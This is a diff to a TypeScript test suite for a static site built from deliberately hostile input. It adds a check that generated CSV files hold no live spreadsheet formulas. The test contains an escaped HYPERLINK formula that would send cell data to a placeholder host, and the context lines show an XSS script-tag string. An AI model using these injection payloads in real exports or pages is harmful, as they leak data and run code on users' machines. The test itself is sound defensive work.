@@ -5,7 +5,9 @@
  * site must load nothing from another origin and log no error (a CSP violation
  * would).
  */
-import { readdirSync, rmSync } from 'node:fs';
+import { readdirSync, readFileSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launchBrowser } from '../helpers/browser.ts';
@@ -120,6 +122,19 @@ describe('hostile content', () => {
     expect(await page.textContent('body')).toContain('第25段');
     expect(await page.title()).toContain("<script>alert('title')</script>");
     await page.close();
+  });
+});
+
+describe('open data built from hostile content', () => {
+  it('has no live spreadsheet formula in any CSV: the formula title is written with a leading apostrophe', () => {
+    const csvs = (readdirSync(hostileDir, { recursive: true }) as string[]).filter((f) => f.endsWith('.csv'));
+    expect(csvs).toEqual(expect.arrayContaining(['data/reports.csv', 'data/reports/2015.csv']));
+    for (const file of csvs) {
+      const rows = parse(readFileSync(join(hostileDir, file), 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+      for (const row of rows) for (const cell of row) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const reports = parse(readFileSync(join(hostileDir, 'data/reports.csv'), 'utf8').slice(1), { columns: true }) as Record<string, string>[];
+    expect(reports.find((r) => r['year'] === '2015')!['title']).toBe(`'=HYPERLINK("http://x.example/"&A1,"点击查看")`);
   });
 });
 
